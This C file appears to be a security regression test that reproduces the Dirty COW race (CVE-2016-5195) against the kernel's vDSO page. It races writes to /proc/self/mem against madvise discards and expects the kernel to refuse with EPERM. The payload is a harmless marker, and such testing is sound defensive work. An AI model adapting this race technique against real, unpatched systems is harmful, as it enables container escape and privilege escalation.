/* title:   The kernel's page in every process is written: the vDSO, by a race for a copy
 * source:  CVE-2016-5195 (Dirty COW): the vDSO was how it got out of containers
 * expect:  EPERM
 * fires:   call
 * control: void: this kernel makes a private copy every time
 *
 * /proc/self/mem writes it while another thread throws the copy away. A process executed anew compares what it sees.
 */
#include "lib.h"
#include <pthread.h>
#include <sys/auxv.h>

static char *page;
static volatile int over;

static void *throw_away(void *with)
{
    while (!over)
        madvise(page, 4096, MADV_DONTNEED);
    return with;
}
static unsigned sum(void)
{
    unsigned value = 0;
    for (int i = 0; i < 4096; i++)
        value = value * 31 + (unsigned char)page[i];
    return value;
}

int run(void)
{
    page = (char *)getauxval(AT_SYSINFO_EHDR);
    if (*arg("sum")) {
        errno = EPERM;
        attempt("another process sees the change", sum() == strtoul(arg("sum"), NULL, 10) ? -1 : 0);
        return 0;
    }
    char word[32];
    snprintf(word, sizeof word, "sum=%u", sum());
    int memory = open("/proc/self/mem", O_RDWR);
    pthread_t other;
    if (memory >= 0 && pthread_create(&other, NULL, throw_away, NULL) == 0) {
        /* In the identification of its ELF header, which nobody reads. */
        for (int i = 0; i < 20000; i++)
            if (pwrite(memory, "escape", 6, (off_t)(uintptr_t)page + 9) < 0)
                break;
        over = 1;
        pthread_join(other, NULL);
    }
    char *const again[] = {"/proc/self/exe", word, NULL};
    fflush(stdout);
    execv("/proc/self/exe", again);
    return 1;
}
